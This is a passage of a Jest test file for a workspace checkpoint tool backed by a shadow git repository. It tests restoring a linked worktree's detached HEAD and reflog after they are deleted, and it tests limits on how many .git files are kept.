  const sha256Refs = execFileSync('git', ['for-each-ref', '--format=%(refname)', 'refs/hermes/'], { encoding: 'utf8', env: { PATH: process.env.PATH, GIT_DIR: path.join(shadowRepositoryFor(home, workspace).gitDirectory, 'sha256'), GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' } });
  const namespaces = new Set(sha256Refs.trim().split('\n').map((ref) => Number(ref.split('/')[2])));
  expect([...namespaces].sort()).toEqual(ids.sort());
  expect(ids.length).toBeLessThan(4);
});

test("a linked worktree's detached HEAD and its reflog are kept with the main repository's history: commits made there come back, fsck clean", async () => {
  const main = path.join(workspace, 'main');
  mkdirSync(main);
  userGit(['init', '-q', '-b', 'main'], main);
  commitFile('a.txt', 'first\n', 'in the main repository', main);
  const wt = path.join(workspace, 'wt');
  userGit(['worktree', 'add', '-q', '--detach', wt], main);
  const detached = commitFile('b.txt', 'detached work\n', 'on a detached worktree, on no branch', wt);
  const reflog = readFileSync(path.join(main, '.git/worktrees/wt/logs/HEAD'), 'utf8');

  const { checkpoint: first } = await taken();
  expect(Object.fromEntries(await keptRefs(shadowRepositoryFor(home, workspace), first.id, 10_000, 'main'))).toMatchObject({ 'worktrees/wt/HEAD': detached });

  rmSync(path.join(main, '.git/objects'), { recursive: true });
  rmSync(path.join(main, '.git/worktrees/wt/logs'), { recursive: true });
  writeFileSync(path.join(main, '.git/worktrees/wt/HEAD'), 'ref: refs/heads/main\n');
  await rollbackWorkspace(shadowRepositoryFor(home, workspace), first, { sessionId: 'operator', limits: LIMITS });
  expect(userGit(['rev-parse', 'HEAD'], wt)).toBe(detached);
  expect(readFileSync(path.join(main, '.git/worktrees/wt/logs/HEAD'), 'utf8')).toBe(reflog);
  userGit(['fsck', '--no-dangling'], main);

  // A worktree removed since: its HEAD and reflog are not made again.
  userGit(['worktree', 'remove', '--force', wt], main);
  await rollbackWorkspace(shadowRepositoryFor(home, workspace), first, { sessionId: 'operator', limits: LIMITS });
  expect(existsSync(path.join(main, '.git/worktrees/wt'))).toBe(false);
  userGit(['fsck', '--no-dangling'], main);
});

test('the .git files kept are bounded: a flood of reflogs and folders is left out past the bounds, and counted', async () => {
  repositoryWithHistory();
  for (let index = 0; index < 300; index++) mkdirSync(path.join(workspace, `.git/logs/refs/junk/${index}`), { recursive: true });
  for (let index = 0; index < 700; index++) writeFileSync(path.join(workspace, `.git/logs/refs/junk/${index % 300}/log${index}`), 'x\n');
  const { checkpoint: first } = await taken();
  expect(first.git?.files).toBeLessThanOrEqual(512);
  expect(first.git?.filesLeftOut).toBeGreaterThan(0);
  expect(first.git?.refs).toBe(2);
});
